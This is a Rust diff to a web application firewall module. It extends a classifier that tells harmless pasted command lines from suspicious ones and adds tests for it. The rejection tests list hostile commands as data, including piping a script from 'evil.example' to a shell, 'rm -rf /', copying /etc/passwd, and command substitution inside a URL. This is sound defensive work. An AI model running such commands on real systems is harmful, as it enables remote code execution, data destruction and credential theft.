@@ -5,6 +5,7 @@
 use std::sync::LazyLock;
 
 use super::SEVERE;
+use super::chore::{READING, fetched, is_chore, is_fetch, reaches, unled};
 use super::words::{Words, words};
 use crate::waf::scan::{Needles, at, find, is_space, is_word, span, trim};
 
@@ -82,7 +83,7 @@ static RUNNING: Needles<'static> = Needles::new(&[
 
 /// Whether the whole text is such a command line.
 pub(in crate::waf) fn is_work(text: &[u8]) -> bool {
-    let text = trim(text);
+    let text = fetched(unled(trim(text)));
     if text.len() > MAX_SCRIPT || RUNNING.find(text, 0).is_some() || SEVERE.find(text, 0).is_some()
     {
         return false;
@@ -147,9 +148,15 @@ fn works(command: &[u8], is_first: bool, is_all: bool) -> bool {
         || is_knock(command, word)
         || FIRST.contains(word) && (has_argument || !is_all);
     if is_first {
-        return is_task || is_led && NEXT.contains(word) || word == b"curl" && is_request(command);
+        return is_task
+            || is_led && NEXT.contains(word)
+            || word == b"curl" && is_request(command)
+            || is_fetch(command)
+            || is_chore(command, word)
+            || !is_all && has_argument && READING.contains(&word) && !reaches(command);
     }
     is_task
+        || is_chore(command, word)
         || word.is_empty()
         || NEXT.contains(word)
         || word.starts_with(b"./")
@@ -217,7 +224,8 @@ fn is_edit(command: &[u8], word: &[u8]) -> bool {
 }
 
 /// Programs of one line.
-const INTERPRETERS: &[&[u8]] = &[b"perl", b"ruby", b"node", b"python", b"python3", b"php"];
+pub(super) const INTERPRETERS: &[&[u8]] =
+    &[b"perl", b"ruby", b"node", b"python", b"python3", b"php"];
 /// What such a line needs to leave its input and its output.
 static LEAVING: Needles<'static> = Needles::new(&[
     b"exec",
@@ -382,6 +390,13 @@ mod tests {
             "make && sudo make install",
             "taskkill /f /im node.exe\nnetstat -ano | findstr :3000",
             "ps aux | grep node | awk '{print $2}' | xargs kill -9",
+            "curl -fssl https://get.docker.com | sh",
+            "- wget -r -np https://example.org/docs/",
+            "rm -f *.o app; find . -name '*~' -delete",
+            "wget https://example.org/a.tgz && tar xzf a.tgz",
+            "python runtests.py -v -t scipy.optimize",
+            "chmod -r 755 storage && chown -r www-data:www-data storage",
+            "cat access.log | awk '{print $1}' | sort | uniq -c",
             "curl -x post http://localhost:8000/api -h \"accept: */*\" -d '{\"a\":1}'",
         ] {
             assert!(is_work(text.as_bytes()), "{text}");
@@ -389,6 +404,22 @@ mod tests {
         for text in [
             "; make install",
             "git status; id",
+            "curl http://get.docker.com | sh",
+            "curl https://10.0.0.1/x | sh",
+            "curl https://evil.example/x | sh",
+            "git pull; curl https://get.docker.com | sh",
+            "curl https://a.example/?$(id)",
+            "git pull && curl https://a.example/x -o y",
+            "rm -rf /",
+            "rm -rf /tmp/a",
+            "rm -rf *",
+            "cp /etc/passwd x",
+            "cat ../../x | sort",
+            "cat config.php",
+            "ls -la",
+            "python -c \"import os\"",
+            "php /tmp/x.php",
+            "cd /tmp; rm x",
             "git status\ncat /etc/hosts",
             "docker run -v $(cat x):/y z",
             "ping -c 1 127.0.0.1",
